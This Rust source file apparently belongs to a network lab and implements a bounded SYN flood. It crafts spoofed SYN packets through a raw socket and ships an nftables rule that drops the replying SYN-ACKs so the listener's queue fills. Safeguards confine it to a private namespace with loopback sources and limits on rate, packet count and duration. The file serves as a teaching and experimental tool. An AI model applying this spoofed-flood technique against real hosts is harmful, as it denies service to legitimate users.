//! A SYN flood, bounded, inside the lab's own network namespace: the attack that fills a
//! listener's SYN queue with handshakes that never complete, so that real clients cannot get
//! in (RFC 4987 §2).
//!
//! Each packet is a SYN built by [`crate::packet`], from a spoofed source in
//! [`FLOOD_SOURCES`] (127.66.0.0/16, random address and port), sent through a raw socket
//! (`socket(AF_INET, SOCK_RAW, IPPROTO_RAW)`, raw(7): we write the IPv4 header ourselves). The
//! listener answers each with a SYN-ACK and keeps a request socket in its SYN queue until the
//! client's ACK comes, which it never does: the nftables rule of [`drop_syn_acks_ruleset`]
//! drops the SYN-ACKs on their way in to the spoofed addresses. (Without it the kernel would
//! answer the stray SYN-ACK with a reset and free the entry at once; dropping it on the way
//! *out* would not do either, since a failed SYN-ACK retransmission frees the entry too.)
//!
//! Safety of the experiment, by construction:
//! - a [`SynFlood`] needs a [`PrivateNet`], which only the process that created the namespace
//!   holds, and refuses to start from a thread outside it;
//! - the target must be an address of that namespace ([`PrivateNet::check_destination`]) and
//!   the spoofed sources are loopback addresses too, so no packet can leave it;
//! - every flood is bounded in packets, in seconds and in rate ([`FloodConfig::validate`]), and
//!   stops early when asked.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use rustix::net::{self as rnet, AddressFamily, SendFlags, SocketType};
use serde::{Deserialize, Serialize};

use crate::netns::PrivateNet;
use crate::packet::{mss_option, Syn};

/// Where the spoofed SYNs come from: 127.66.0.0/16, inside the namespace's loopback block.
pub const FLOOD_SOURCES: (Ipv4Addr, u8) = (Ipv4Addr::new(127, 66, 0, 0), 16);
/// The most packets one flood may send.
pub const MAX_PACKETS: u64 = 1_000_000;
/// The longest a flood may last.
pub const MAX_DURATION: Duration = Duration::from_secs(60);
/// The highest rate, in packets per second.
pub const MAX_RATE: u32 = 100_000;

/// One flood: where, how fast, how much.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FloodConfig {
    /// The listener under attack.
    pub target: SocketAddrV4,
    /// Packets per second.
    pub rate: u32,
    /// Stop after this many packets...
    pub max_packets: u64,
    /// ...or after this long, whichever comes first.
    pub max_duration: Duration,
}

impl FloodConfig {
    /// Checks the bounds: every flood ends, and none is heavier than [`MAX_RATE`].
    pub fn validate(&self) -> Result<(), String> {
        if self.rate == 0 || self.rate > MAX_RATE {
            return Err(format!(
                "flood rate {} must be 1..={MAX_RATE} packets/s",
                self.rate
            ));
        }
        if self.max_packets == 0 || self.max_packets > MAX_PACKETS {
            return Err(format!(
                "flood packets {} must be 1..={MAX_PACKETS}",
                self.max_packets
            ));
        }
        if self.max_duration.is_zero() || self.max_duration > MAX_DURATION {
            return Err(format!(
                "flood duration {:?} must be more than 0 and at most {MAX_DURATION:?}",
                self.max_duration
            ));
        }
        if self.target.port() == 0 {
            return Err("flood target port must not be 0".into());
        }
        Ok(())
    }
}

/// What a flood did.
#[derive(Copy, Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct FloodReport {
    /// SYNs the kernel accepted for sending.
    pub sent: u64,
    /// `sendto` failures (a full socket buffer: `ENOBUFS`).
    pub send_errors: u64,
    /// How long it ran.
    pub elapsed_s: f64,
}

/// A raw socket ready to flood one target in one private namespace.
#[derive(Debug)]
pub struct SynFlood {
    socket: OwnedFd,
    config: FloodConfig,
    /// xorshift64 state: sources, ports and sequence numbers need to differ, not to be secret.
    random: u64,
}

impl SynFlood {
    /// Checks the configuration and the target, and opens the raw socket (needs
    /// `CAP_NET_RAW`, which root has in the namespace it created).
    pub fn new(net: &PrivateNet, config: FloodConfig) -> Result<SynFlood, String> {
        config.validate()?;
        net.check_destination(*config.target.ip())?;
        let socket = rnet::socket(
            AddressFamily::INET,
            SocketType::RAW,
            Some(rnet::ipproto::RAW),
        )
        .map_err(|e| format!("raw socket: {e}"))?;
        let seed = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos() as u64)
            ^ u64::from(std::process::id());
        Ok(SynFlood {
            socket,
            config,
            random: seed | 1,
        })
    }

    /// Sends SYNs at the configured rate until a bound is reached or `stop` is set. Refuses
    /// to start on a thread outside `net`.
    pub fn run(&mut self, net: &PrivateNet, stop: &AtomicBool) -> Result<FloodReport, String> {
        net.ensure_inside()?;
        let start = Instant::now();
        let mut report = FloodReport::default();
        let mut attempts = 0u64;
        while attempts < self.config.max_packets && !stop.load(Ordering::Relaxed) {
            let elapsed = start.elapsed();
            if elapsed >= self.config.max_duration {
                break;
            }
            // Pacing: packet k is due at k / rate seconds; send what is due, then nap.
            let due = (elapsed.as_secs_f64() * f64::from(self.config.rate)) as u64 + 1;
            let due = due.min(self.config.max_packets);
            while attempts < due {
                let packet = self.next_syn().encode();
                match rnet::sendto(
                    &self.socket,
                    &packet,
                    SendFlags::empty(),
                    &self.config.target,
                ) {
                    Ok(_) => report.sent += 1,
                    Err(_) => report.send_errors += 1,
                }
                attempts += 1;
            }
            thread::sleep(Duration::from_millis(1));
        }
        report.elapsed_s = start.elapsed().as_secs_f64();
        Ok(report)
    }

    /// The next SYN: a random source in [`FLOOD_SOURCES`], random port, sequence and id.
    fn next_syn(&mut self) -> Syn {
        let r = self.next_random();
        let [a, b, _, _] = FLOOD_SOURCES.0.octets();
        // Host part of the /16, avoiding .0 and .255 in the last octet.
        let src_ip = Ipv4Addr::new(a, b, (r >> 16) as u8, (r % 254) as u8 + 1);
        let port = 1024 + ((r >> 24) as u16) % (u16::MAX - 1024);
        Syn {
            src: SocketAddrV4::new(src_ip, port),
            dst: self.config.target,
            seq: (r >> 32) as u32,
            ip_id: (r >> 40) as u16,
            ttl: 64,
            window: 64240,
            options: mss_option(1460).to_vec(),
        }
    }

    fn next_random(&mut self) -> u64 {
        // Marsaglia's xorshift64.
        let mut x = self.random;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.random = x;
        x
    }
}

/// The nftables ruleset that keeps the flood's half-open connections half-open: SYN-ACKs to
/// the spoofed sources are dropped on input, before the kernel can answer them with a reset.
pub fn drop_syn_acks_ruleset() -> String {
    let (net, bits) = FLOOD_SOURCES;
    format!(
        "table ip rawloop_synflood {{\n\
         \tchain input {{\n\
         \t\ttype filter hook input priority 0; policy accept;\n\
         \t\tip daddr {net}/{bits} tcp flags & (syn | ack) == syn | ack drop\n\
         \t}}\n\
         }}\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config() -> FloodConfig {
        FloodConfig {
            target: "127.0.0.1:7007".parse().unwrap(),
            rate: 1000,
            max_packets: 100,
            max_duration: Duration::from_secs(1),
        }
    }

    #[test]
    fn every_bound_is_checked() {
        assert_eq!(config().validate(), Ok(()));
        let bad = [
            FloodConfig {
                rate: 0,
                ..config()
            },
            FloodConfig {
                rate: MAX_RATE + 1,
                ..config()
            },
            FloodConfig {
                max_packets: 0,
                ..config()
            },
            FloodConfig {
                max_packets: MAX_PACKETS + 1,
                ..config()
            },
            FloodConfig {
                max_duration: Duration::ZERO,
                ..config()
            },
            FloodConfig {
                max_duration: MAX_DURATION * 2,
                ..config()
            },
            FloodConfig {
                target: "127.0.0.1:0".parse().unwrap(),
                ..config()
            },
        ];
        for c in bad {
            assert!(c.validate().is_err(), "{c:?} accepted");
        }
    }

    #[test]
    fn the_ruleset_names_the_flood_sources() {
        let rules = drop_syn_acks_ruleset();
        assert!(rules.contains("ip daddr 127.66.0.0/16"), "{rules}");
        assert!(rules.contains("hook input"), "{rules}");
    }
}
